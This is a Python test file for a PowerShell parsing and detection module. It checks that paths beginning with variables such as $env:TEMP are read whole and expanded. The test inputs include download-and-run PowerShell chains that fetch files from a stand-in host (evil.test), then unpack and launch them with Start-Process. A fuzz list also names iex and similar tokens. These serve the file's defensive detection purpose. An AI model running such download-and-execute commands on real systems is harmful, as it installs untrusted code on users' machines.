"""A command argument that starts with a variable and goes on as a path (`$env:TEMP\\x.exe`).

PowerShell reads it as one word with the variable expanded; the tree-sitter grammar cannot, and
recovered from the error at a high cost, losing the rest of the word. grammar.parse gives the
grammar such a "$" as a word character (grammar.screen_powershell) and reads the original text
at the tree's offsets; these tests check that the tree still covers the text as written, that the
word is read whole with its variable expanded, and that a "$" the grammar then reads as
something else (in a double-quoted string) stays a variable.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection.interpret import Behaviour, interpret
from app.detection.interpret.budget import Budget
from app.detection.interpret.facts import Facts
from app.detection.interpret.grammar import (
    parse,
    path_variables,
    screen_powershell,
    text_of,
    walk,
)
from app.detection.interpret.powershell import interpret_powershell

TEMP = "C:\\Users\\user\\AppData\\Local\\Temp"


def read(text: str) -> Facts:
    facts = Facts()
    interpret_powershell(text, facts, Budget(ms=1000, strict=True))
    return facts


def args_of(facts: Facts, name: str) -> tuple[str, ...]:
    return next(i.args for i in facts.invocations if i.name == name)


def test_the_screen_keeps_every_offset_and_the_tree_reads_the_original_text() -> None:
    text = "iwr https://evil.test/a.zip -OutFile $env:TEMP\\a.zip; Start-Process $d/a/a.exe"
    data = text.encode()
    starts = path_variables(data)
    assert [data[s : s + 4] for s in starts] == [b"$env", b"$d/a"]
    screened = screen_powershell(data, starts)
    assert len(screened) == len(data) and screened != data
    assert [i for i, (a, b) in enumerate(zip(data, screened, strict=True)) if a != b] == starts
    parsed = parse("powershell", text, ms=1000)
    assert parsed is not None
    tree, original = parsed
    assert original == data
    words = [text_of(n, original) for n in walk(tree.root_node, 500) if n.type == "generic_token"]
    assert "$env:TEMP\\a.zip" in words and "$d/a/a.exe" in words
    assert not tree.root_node.has_error


def test_a_variable_path_after_a_call_operator_is_left_to_the_grammar() -> None:
    # `& $d\\x.exe` is a command path the grammar reads by itself: screening it only made
    # the grammar misread it and the text be parsed twice
    assert path_variables(b"& $env:TEMP\\x.exe; . $d/x.ps1; iwr $u -o $d\\y") == [41]
    parsed = parse("powershell", "& $env:TEMP\\x.exe --version", ms=1000)
    assert parsed is not None and not parsed[0].root_node.has_error


def test_a_download_saved_under_a_variable_path_and_run_is_read_whole() -> None:
    facts = read(
        "iwr https://evil.test/a.zip -OutFile $env:TEMP\\a.zip; "
        "Expand-Archive $env:TEMP\\a.zip -DestinationPath $env:TEMP\\a; "
        "Start-Process $env:TEMP\\a\\a.exe"
    )
    assert facts.downloaded_files == [f"{TEMP}\\a.zip"]
    assert "https://evil.test/a.zip" in args_of(facts, "invoke-webrequest")
    assert args_of(facts, "expand-archive") == ("-destinationpath", f"{TEMP}\\a", f"{TEMP}\\a.zip")
    assert args_of(facts, "start-process") == (f"{TEMP}\\a\\a.exe",)


def test_a_variable_set_earlier_is_expanded_in_the_word_and_the_rewritten_text() -> None:
    text = '$d="$env:APPDATA\\svc"; iwr https://evil.test/p.exe -OutFile $d\\p.exe; Start-Process $d\\p.exe'
    result = interpret(text, Budget(ms=1000, strict=True), readers=["powershell"])
    assert result.behaviours[Behaviour.RUNS_DOWNLOADED] == [
        "C:\\Users\\user\\AppData\\Roaming\\svc\\p.exe"
    ]
    assert any("'C:\\Users\\user\\AppData\\Roaming\\svc'\\p.exe" in x for x in result.layers)


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        # in a double-quoted string the "$" is a variable: the string is read expanded
        ('Start-Process "x $env:TEMP\\y"', "start-process", (f"x {TEMP}\\y",)),
        # beside one in a double-quoted string, a bare word is still read whole
        (
            'Start-Process $env:TEMP\\a.exe -ArgumentList "/S $env:TEMP\\b"',
            "start-process",
            ("-argumentlist", f"/S {TEMP}\\b", f"{TEMP}\\a.exe"),
        ),
        # in a single-quoted string it is nothing either way
        ("echo 'a $env:TEMP\\x' $env:TEMP\\y", "write-output", ("a $env:TEMP\\x", f"{TEMP}\\y")),
        # a here-string's variables stay variables
        ('Write-Host @"\nrun $env:TEMP\\x.exe\n"@', "write-host", (f"run {TEMP}\\x.exe",)),
        ("# $env:TEMP\\x\nStart-Process $env:TEMP\\y", "start-process", (f"{TEMP}\\y",)),
    ],
)
def test_a_dollar_in_a_string_or_comment_keeps_its_meaning(
    text: str, name: str, expected: tuple[str, ...]
) -> None:
    assert args_of(read(text), name) == expected


HOSTILE = [
    " $env:TEMP\\", " $a/", "$b\\", ' "', " '", "@\"\n", "\n\"@", "@'\n", "\n'@", "`", "#",
    "<#", "#>", " -OutFile", "Start-Process", "iex", "&", "(", ")", "{", "}", ";", "|", "x.exe",
    "https://evil.test/x", " ", "\t", "\u00e9", "\u4e2d", "${env:x}\\", "$(", ",",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(text=st.lists(st.sampled_from(HOSTILE), max_size=40).map("".join))
def test_screened_texts_parse_over_the_original_and_never_raise(text: str) -> None:
    parsed = parse("powershell", text, ms=1000)
    assert parsed is not None
    tree, data = parsed
    assert data == text.encode()
    assert tree.root_node.end_byte <= len(data)
    facts = Facts()
    reading = interpret_powershell(text, facts, Budget(ms=10_000, strict=True))
    assert reading is None or isinstance(reading, str)


@settings(max_examples=200, deadline=None)
@given(after=st.lists(st.sampled_from(HOSTILE), max_size=12).map("".join))
def test_the_download_before_hostile_text_is_still_read_whole(after: str) -> None:
    facts = read("iwr https://evil.test/x.exe -OutFile $env:TEMP\\x.exe\n" + after)
    assert f"{TEMP}\\x.exe" in facts.downloaded_files
    assert "https://evil.test/x.exe" in args_of(facts, "invoke-webrequest")
